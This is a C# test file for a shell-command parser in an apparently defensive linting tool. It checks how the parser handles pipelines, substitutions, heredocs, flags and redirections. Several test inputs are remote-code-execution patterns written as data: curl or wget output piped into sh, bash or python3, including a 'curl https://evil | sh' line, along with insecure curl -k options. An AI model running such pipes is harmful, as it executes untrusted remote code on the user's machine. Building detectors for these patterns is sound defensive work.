using ThreatLint.Documents.Shell;

namespace ThreatLint.Core.Tests.Shell;

public class ShellScriptTests
{
    private static ShellCommand Single(string script, string name) =>
        ShellScript.Parse(script).Commands.Single(c => c.Name == name);

    private static string[] Names(ShellScript script) => [.. script.Commands.Select(c => c.Kind == ShellCommandKind.Simple ? c.Name : c.Kind.ToString())];

    [Test]
    public void A_pipeline_knows_its_commands_and_who_reads_whose_output()
    {
        var script = ShellScript.Parse("curl -fsSL https://example.com/install.sh | sudo bash -s -- --yes");

        var curl = script.Commands[0];
        var bash = script.Commands[1];
        Assert.Multiple(() =>
        {
            Assert.That(Names(script), Is.EqualTo(new[] { "curl", "bash" }));
            Assert.That(script.Pipelines, Has.Count.EqualTo(1));
            Assert.That(curl.Pipeline, Is.SameAs(bash.Pipeline));
            Assert.That((curl.PositionInPipeline, bash.PositionInPipeline), Is.EqualTo((0, 1)));
            Assert.That(curl.PipesTo, Is.SameAs(bash));
            Assert.That(bash.PipedFrom, Is.SameAs(curl));
            Assert.That((curl.Connector, bash.Connector), Is.EqualTo((ShellConnector.Pipe, ShellConnector.None)));
            Assert.That(bash.NameWord!.Text, Is.EqualTo("bash"));
            Assert.That(bash.Words[0].Text, Is.EqualTo("sudo"));
            Assert.That(bash.ReadsScriptFromStdin, Is.True);
        });
    }

    [Test]
    public void Connectors_are_recorded_on_the_command_before_them()
    {
        var script = ShellScript.Parse("a && b || c; d & e\nf |& g");

        Assert.Multiple(() =>
        {
            Assert.That(Names(script), Is.EqualTo(new[] { "a", "b", "c", "d", "e", "f", "g" }));
            Assert.That(script.Commands.Select(c => c.Connector), Is.EqualTo(new[]
            {
                ShellConnector.And, ShellConnector.Or, ShellConnector.Semicolon, ShellConnector.Background,
                ShellConnector.Newline, ShellConnector.Pipe, ShellConnector.None,
            }));
            Assert.That(script.Pipelines.Select(p => p.Commands.Count), Is.EqualTo(new[] { 1, 1, 1, 1, 1, 2 }));
            Assert.That(script.Pipelines.Select(p => p.Index), Is.EqualTo(new[] { 0, 1, 2, 3, 4, 5 }));
        });
    }

    [Test]
    public void Quotes_and_escapes_are_removed_from_the_text_and_kept_in_the_raw_word()
    {
        var words = ShellScript.Parse("""echo 'a b'"c d" $'tab\there\x41\101\'' \$HOME "q\"u\\o\te" plain""").Commands.Single().Words;

        Assert.Multiple(() =>
        {
            Assert.That(words.Select(w => w.Text), Is.EqualTo(new[] { "echo", "a bc d", "tab\thereAA'", "$HOME", "q\"u\\o\\te", "plain" }));
            Assert.That(words[1].Raw, Is.EqualTo("'a b'\"c d\""));
            Assert.That(words.Select(w => w.IsQuoted), Is.EqualTo(new[] { false, true, true, true, true, false }));
            Assert.That(words.Any(w => w.HasExpansion), Is.False);
        });
    }

    [Test]
    public void Expansions_stay_as_written_and_are_flagged()
    {
        var words = ShellScript.Parse("pip install \"${PKG:-torch}\" $VERSION \"$@\" $((1 + 2)) ~/x").Commands.Single().Arguments;

        Assert.Multiple(() =>
        {
            Assert.That(words.Select(w => w.Text), Is.EqualTo(new[] { "install", "${PKG:-torch}", "$VERSION", "$@", "$((1 + 2))", "~/x" }));
            Assert.That(words.Select(w => w.HasExpansion), Is.EqualTo(new[] { false, true, true, true, true, false }));
        });
    }

    [Test]
    public void Nested_command_substitutions_are_commands_with_their_parents()
    {
        var script = ShellScript.Parse("""echo "$(curl -s "$(cat url.txt)")" `uname -m`""");

        var echo = script.Commands[0];
        var curl = script.Commands.Single(c => c.Name == "curl");
        var cat = script.Commands.Single(c => c.Name == "cat");
        var uname = script.Commands.Single(c => c.Name == "uname");
        Assert.Multiple(() =>
        {
            Assert.That(Names(script), Is.EqualTo(new[] { "echo", "curl", "cat", "uname" }));
            Assert.That((echo.Depth, curl.Depth, cat.Depth, uname.Depth), Is.EqualTo((0, 1, 2, 1)));
            Assert.That(curl.Parent, Is.SameAs(echo));
            Assert.That(cat.Parent, Is.SameAs(curl));
            Assert.That(uname.Parent, Is.SameAs(echo));
            Assert.That(curl.Nesting, Is.EqualTo(ShellNesting.Substitution));
            Assert.That(echo.Words[1].Substitutions.Single().Commands.Single(), Is.SameAs(curl));
            Assert.That(echo.Words[2].Substitutions.Single().Kind, Is.EqualTo(ShellSubstitutionKind.Command));
            Assert.That(echo.Words[1].Text, Is.EqualTo("""$(curl -s "$(cat url.txt)")"""));
        });
    }

    [Test]
    public void Process_substitutions_are_commands()
    {
        var script = ShellScript.Parse("bash <(curl -fsSL https://example.com/x.sh) && tee >(gzip > log.gz) < <(wget -qO- https://example.com/y)");

        var bash = script.Commands.Single(c => c.Name == "bash");
        var tee = script.Commands.Single(c => c.Name == "tee");
        Assert.Multiple(() =>
        {
            Assert.That(Names(script), Is.EqualTo(new[] { "bash", "curl", "tee", "gzip", "wget" }));
            Assert.That(bash.Arguments[0].Substitutions.Single().Kind, Is.EqualTo(ShellSubstitutionKind.ProcessInput));
            Assert.That(bash.Arguments[0].Substitutions.Single().Commands.Single().Name, Is.EqualTo("curl"));
            Assert.That(tee.Arguments[0].Substitutions.Single().Kind, Is.EqualTo(ShellSubstitutionKind.ProcessOutput));
            Assert.That(tee.Redirections.Single().Target!.Substitutions.Single().Commands.Single().Parent, Is.SameAs(tee));
        });
    }

    [Test]
    public void Compound_commands_hold_their_bodies()
    {
        var script = ShellScript.Parse("""
            (cd /tmp && curl -O https://example.com/a.sh) | sh
            { echo a; echo b; } > out
            if command -v curl; then curl -k https://x; elif true; then :; else wget https://y; fi
            for f in $(ls *.sh) a.sh; do sh "$f"; done
            while read -r line; do echo "$line"; done < <(curl https://z)
            case "$ARCH" in
              x86_64|amd64) curl https://a | sh ;;
              *) echo unsupported ;;
            esac
            install() { pip install torch; }
            function setup { apt-get update; }
            (( i = 1 + 2 ))
            [[ -f a && $x < 3 ]] && echo ok
            """);

        var subshell = script.Commands.First(c => c.Kind == ShellCommandKind.Subshell);
        var loop = script.Commands.First(c => c.Kind == ShellCommandKind.Loop);
        var function = script.Commands.First(c => c.Kind == ShellCommandKind.Function);
        Assert.Multiple(() =>
        {
            Assert.That(Names(script), Is.EqualTo(new[]
            {
                "Subshell", "cd", "curl", "sh",
                "Group", "echo", "echo",
                "If", "command", "curl", "true", ":", "wget",
                "Loop", "ls", "sh",
                "Loop", "read", "echo", "curl",
                "Case", "curl", "sh", "echo",
                "Function", "Group", "pip",
                "Function", "Group", "apt-get",
                "Arithmetic",
                "[[", "echo",
            }));
            Assert.That(subshell.Body.Select(c => c.Name), Is.EqualTo(new[] { "cd", "curl" }));
            Assert.That(subshell.PipesTo!.Name, Is.EqualTo("sh"));
            Assert.That(loop.Words.Select(w => w.Text), Is.EqualTo(new[] { "f", "$(ls *.sh)", "a.sh" }));
            Assert.That(script.Commands.Single(c => c.Name == "ls").Parent, Is.SameAs(loop));
            Assert.That(script.Commands.First(c => c.Name == "pip").Depth, Is.EqualTo(2));
            Assert.That(function.Words.Single().Text, Is.EqualTo("install"));
            Assert.That(script.Commands.Single(c => c.Name == "command").Name, Is.EqualTo("command"));
            Assert.That(script.IsTruncated, Is.False);
        });
    }

    [Test]
    public void A_shell_string_is_parsed_as_a_script_with_offsets_in_the_outer_text()
    {
        const string Text = """bash -ec "echo \"hi\" && curl -fsSL https://example.com/x | sh" ignored""";
        var script = ShellScript.Parse(Text);

        var bash = script.Commands[0];
        var curl = script.Commands.Single(c => c.Name == "curl");
        var sh = script.Commands.Single(c => c.Name == "sh");
        Assert.Multiple(() =>
        {
            Assert.That(Names(script), Is.EqualTo(new[] { "bash", "echo", "curl", "sh" }));
            Assert.That(bash.ShellString!.Text, Is.EqualTo("""echo "hi" && curl -fsSL https://example.com/x | sh"""));
            Assert.That(curl.Parent, Is.SameAs(bash));
            Assert.That(curl.Nesting, Is.EqualTo(ShellNesting.ShellString));
            Assert.That(curl.Depth, Is.EqualTo(1));
            Assert.That(curl.PipesTo, Is.SameAs(sh));
            Assert.That(Text.Substring(curl.Offset, curl.Length), Is.EqualTo("curl -fsSL https://example.com/x"));
            Assert.That(Text.Substring(curl.Words[2].Offset, curl.Words[2].Length), Is.EqualTo("https://example.com/x"));
            Assert.That(script.Commands.Single(c => c.Name == "echo").Words[1].Text, Is.EqualTo("hi"));
            Assert.That(bash.Body.Select(c => c.Name), Is.EqualTo(new[] { "echo", "curl", "sh" }));
        });
    }

    [Test]
    public void Shell_strings_nest()
    {
        const string Text = """sudo sh -c "bash -c 'curl https://example.com/i | python3 -'" """;
        var script = ShellScript.Parse(Text);

        var python = script.Commands.Single(c => c.Name == "python3");
        Assert.Multiple(() =>
        {
            Assert.That(Names(script), Is.EqualTo(new[] { "sh", "bash", "curl", "python3" }));
            Assert.That(python.Depth, Is.EqualTo(2));
            Assert.That(Text.Substring(python.Offset, python.Length), Is.EqualTo("python3 -"));
        });
    }

    [Test]
    public void Other_interpreters_strings_are_not_shell()
    {
        var script = ShellScript.Parse("""python3 -c "import os; os.system('id')" && node -e 'x | y'""");
        Assert.That(Names(script), Is.EqualTo(new[] { "python3", "node" }));
    }

    [Test]
    public void Heredocs_fed_to_a_shell_are_scripts_and_other_heredocs_are_data()
    {
        const string Text = "cat > /etc/app.conf <<'EOF'\ncurl https://evil | sh\nEOF\nbash -s <<-SCRIPT\n\tset -e\n\tcurl -fsSL https://example.com/x | sh\n\tSCRIPT\necho done\n";
        var script = ShellScript.Parse(Text);

        var cat = script.Commands[0];
        var curl = script.Commands.Single(c => c.Name == "curl");
        Assert.Multiple(() =>
        {
            Assert.That(Names(script), Is.EqualTo(new[] { "cat", "bash", "set", "curl", "sh", "echo" }));
            Assert.That(cat.Redirections.Select(r => r.Operator), Is.EqualTo(new[] { ">", "<<" }));
            Assert.That(cat.Redirections[1].HeredocBody, Is.EqualTo("curl https://evil | sh\n"));
            Assert.That(cat.Redirections[1].Target!.Text, Is.EqualTo("EOF"));
            Assert.That(curl.Nesting, Is.EqualTo(ShellNesting.Heredoc));
            Assert.That(Text.Substring(curl.Offset, curl.Length), Is.EqualTo("curl -fsSL https://example.com/x"));
            Assert.That(script.Commands.Single(c => c.Name == "echo").Depth, Is.EqualTo(0));
        });
    }

    [Test]
    public void A_here_string_fed_to_a_shell_is_a_script()
    {
        var script = ShellScript.Parse("bash <<< 'curl https://example.com/x | sh'");
        Assert.That(Names(script), Is.EqualTo(new[] { "bash", "curl", "sh" }));
    }

    [Test]
    public void Line_continuations_join_and_comments_are_ignored()
    {
        const string Text = "#!/bin/sh\n# curl https://evil | sh\ncurl -fsSL \\\n  https://example.com/x \\\n  | sh # not '$(run)'\necho a#b";
        var script = ShellScript.Parse(Text);

        var curl = script.Commands[0];
        Assert.Multiple(() =>
        {
            Assert.That(Names(script), Is.EqualTo(new[] { "curl", "sh", "echo" }));
            Assert.That(curl.PipesTo!.Name, Is.EqualTo("sh"));
            Assert.That(Text.Substring(curl.Arguments[1].Offset, curl.Arguments[1].Length), Is.EqualTo("https://example.com/x"));
            Assert.That(script.Commands[2].Words[1].Text, Is.EqualTo("a#b"));
            Assert.That(ShellScript.Parse("cu\\\nrl x").Commands.Single().Name, Is.EqualTo("curl"));
        });
    }

    [TestCase("sudo -E -u root /usr/bin/curl -k x", "curl", 4)]
    [TestCase("env -i FOO=1 BAR=2 python3 -m pip", "python3", 4)]
    [TestCase("time nohup exec -a name ./serve", "serve", 5)]
    [TestCase("timeout -s KILL 60 wget x", "wget", 4)]
    [TestCase("nice -n 10 command curl x", "curl", 4)]
    [TestCase("command -v curl", "command", 0)]
    [TestCase("\"$VENV/bin/pip\" install torch", "pip", 0)]
    [TestCase("C:\\\\tools\\\\curl.exe -k x", "curl", 0)]
    [TestCase("FOO=1 sudo", "sudo", 0)]
    public void The_name_skips_wrappers_and_paths(string text, string name, int index)
    {
        var command = ShellScript.Parse(text).Commands.Single();
        Assert.That((command.Name, command.NameIndex), Is.EqualTo((name, index)));
    }

    [Test]
    public void Assignments_before_the_command_are_not_words()
    {
        var command = ShellScript.Parse("PIP_INDEX_URL=http://pypi.local/simple A+=x ARR=(a b) pip install x=1").Commands.Single();

        Assert.Multiple(() =>
        {
            Assert.That(command.Assignments.Select(a => (a.Name, a.Value)), Is.EqualTo(new[] { ("PIP_INDEX_URL", "http://pypi.local/simple"), ("A", "x"), ("ARR", "(a b)") }));
            Assert.That(command.Name, Is.EqualTo("pip"));
            Assert.That(command.Arguments.Select(w => w.Text), Is.EqualTo(new[] { "install", "x=1" }));
            Assert.That(ShellAssignment.TryParse(command.Arguments[1])!.Name, Is.EqualTo("x"));
            Assert.That(ShellAssignment.TryParse(command.Arguments[0]), Is.Null);
        });
    }

    [Test]
    public void Flags_are_found_in_clusters_with_values_and_before_the_double_dash()
    {
        var curl = Single("curl -fsSLk --retry 3 --output=/tmp/x.sh https://x -- -v", "curl");
        var wget = Single("wget -qO- https://x", "wget");
        var wget2 = Single("wget -q -O - https://x", "wget");
        var pip = Single("pip install -i http://pypi.local/simple --extra-index-url https://a --trusted-host=a torch", "pip");

        Assert.Multiple(() =>
        {
            Assert.That(curl.HasFlag("-k", "--insecure"), Is.True);
            Assert.That(curl.FindFlags("-k").Single().Word.Text, Is.EqualTo("-fsSLk"));
            Assert.That(curl.HasFlag("-K"), Is.False);
            Assert.That(curl.HasFlag("-v"), Is.False);
            Assert.That(curl.FlagValue("--output", "-o"), Is.EqualTo("/tmp/x.sh"));
            Assert.That(curl.FlagValue("--retry"), Is.EqualTo("3"));
            Assert.That(wget.FlagValue("-O", "--output-document"), Is.EqualTo("-"));
            Assert.That(wget2.FlagValue("-O", "--output-document"), Is.EqualTo("-"));
            Assert.That(pip.FlagValue("-i", "--index-url"), Is.EqualTo("http://pypi.local/simple"));
            Assert.That(pip.FindFlags("--extra-index-url").Single().ValueWord!.Text, Is.EqualTo("https://a"));
            Assert.That(pip.FlagValue("--trusted-host"), Is.EqualTo("a"));
            Assert.That(pip.Positionals("-i", "--index-url", "--extra-index-url").Select(w => w.Text), Is.EqualTo(new[] { "install", "torch" }));
            Assert.That(curl.Positionals("--retry").Select(w => w.Text), Is.EqualTo(new[] { "https://x", "-v" }));
            Assert.That(wget.Positionals("-O").Select(w => w.Text), Is.EqualTo(new[] { "https://x" }));
        });
    }

    [Test]
    public void Redirections_keep_descriptor_operator_and_target()
    {
        var command = ShellScript.Parse("curl https://x > out.sh 2>&1 &>> log <in").Commands.Single();

        Assert.Multiple(() =>
        {
            Assert.That(command.Words.Select(w => w.Text), Is.EqualTo(new[] { "curl", "https://x" }));
            Assert.That(command.Redirections.Select(r => (r.FileDescriptor, r.Operator, r.Target!.Text)), Is.EqualTo(new (int?, string, string)[]
            {
                (null, ">", "out.sh"), (2, ">&", "1"), (null, "&>>", "log"), (null, "<", "in"),
            }));
        });
    }

    [Test]
    public void Command_offsets_cover_the_command_and_ToString_normalizes_it()
    {
        const string Text = "  FOO=1   curl  -k   'https://x'  &&  echo ok";
        var command = ShellScript.Parse(Text).Commands[0];

        Assert.Multiple(() =>
        {
            Assert.That(Text.Substring(command.Offset, command.Length), Is.EqualTo("FOO=1   curl  -k   'https://x'"));
            Assert.That(command.ToString(), Is.EqualTo("FOO=1 curl -k https://x"));
        });
    }
}
